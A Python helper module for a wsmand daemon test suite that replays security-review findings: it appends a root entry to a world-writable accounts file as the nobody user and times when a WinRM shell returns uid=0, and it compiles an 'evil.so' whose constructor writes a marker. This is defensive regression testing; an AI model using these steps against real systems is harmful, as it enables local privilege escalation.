"""Helpers for test_trusted_files.py: writing as an unprivileged user, a
provider module whose constructor leaves a marker, the accounts-file exploit
of the review (L4) timed against any binary, and the certificates of the
certificate-mapping replay (L5).

Run as a script to time the accounts-file exploit against a binary:
    WSMAND_BIN=/work/old-build/wsmand /usr/bin/python3 trusted_util.py
"""
import os
import shutil
import subprocess
import sys
import tempfile
import time

import winrm
from winrm.exceptions import InvalidCredentialsError

from conftest import Daemon, run_cli

NOBODY = 65534  # the unprivileged user that plays the local attacker
ROOT_PASSWORD = "r00tpw-Audit"


def as_nobody(*argv):
    """Runs argv as uid/gid 65534 with no supplementary groups."""
    return subprocess.run(list(argv), user=NOBODY, group=NOBODY,
                          extra_groups=[], capture_output=True, text=True,
                          timeout=30)


def root_account_line():
    """A `root:<yescrypt hash>` accounts line, made by `wsmand user add`."""
    scratch = tempfile.mkdtemp(prefix="wsmand-hash-")
    try:
        path = os.path.join(scratch, "accounts")
        run_cli(["user", "add", "root", "--accounts", path,
                 "--password-stdin"], stdin=ROOT_PASSWORD + "\n")
        with open(path) as f:
            return f.read().strip()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def try_root_shell(daemon):
    """`id` over WinRS as root; the output, or None when refused."""
    session = winrm.Session(f"http://127.0.0.1:{daemon.port}/wsman",
                            auth=("root", ROOT_PASSWORD), transport="basic")
    try:
        result = session.run_cmd("id")
    except InvalidCredentialsError:
        return None
    return result.std_out.decode()


class AccountsExploit:
    """The review's L4 replay: a root daemon with an accounts file; the file
    is made world-writable and an unprivileged user appends a root entry."""

    def __init__(self):
        self.workdir = tempfile.mkdtemp(prefix="wsmand-trust-")
        os.chmod(self.workdir, 0o755)  # nobody must reach the file
        self.daemon = Daemon(self.workdir)
        self.accounts = self.daemon.accounts

    def attack(self):
        """chmod 666, then append as nobody; returns the append time."""
        os.chmod(self.accounts, 0o666)
        line = root_account_line()
        proc = as_nobody("sh", "-c", 'printf "%s\\n" "$1" >> "$2"', "sh",
                         line, self.accounts)
        assert proc.returncode == 0, proc.stderr
        return time.monotonic()

    def seconds_to_root(self, start, window):
        """Tries a root shell every 0.1 s for `window` seconds; the seconds
        from `start` to an answer of uid=0, or None."""
        deadline = start + window
        while time.monotonic() < deadline:
            out = try_root_shell(self.daemon)
            if out is not None and "uid=0(" in out:
                return time.monotonic() - start
            time.sleep(0.1)
        return None

    def close(self):
        code = self.daemon.stop()
        shutil.rmtree(self.workdir, ignore_errors=True)
        return code


EVIL_C = r"""
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
  FILE *f = fopen("%s", "w");
  if (f) { fprintf(f, "loaded with euid=%%d\n", (int)geteuid()); fclose(f); }
}
"""


def build_evil_so(directory, marker, name="evil.so"):
    """cc -shared: a module with no entry point whose constructor writes
    `marker` (the review's evil.so). Returns its path."""
    src = os.path.join(directory, name + ".c")
    out = os.path.join(directory, name)
    with open(src, "w") as f:
        f.write(EVIL_C % marker)
    subprocess.run(["cc", "-shared", "-fPIC", "-o", out, src], check=True,
                   capture_output=True, timeout=120)
    os.unlink(src)
    return out


def main():
    exploit = AccountsExploit()
    try:
        start = exploit.attack()
        took = exploit.seconds_to_root(start, window=10)
        shown = "never (10 s)" if took is None else f"{took:.2f} s"
        print(f"binary={os.environ.get('WSMAND_BIN')} uid0_shell_after={shown}")
        for line in exploit.daemon.log().splitlines():
            if "event=accounts_" in line:
                print("  " + line)
    finally:
        exploit.close()


if __name__ == "__main__":
    sys.exit(main())
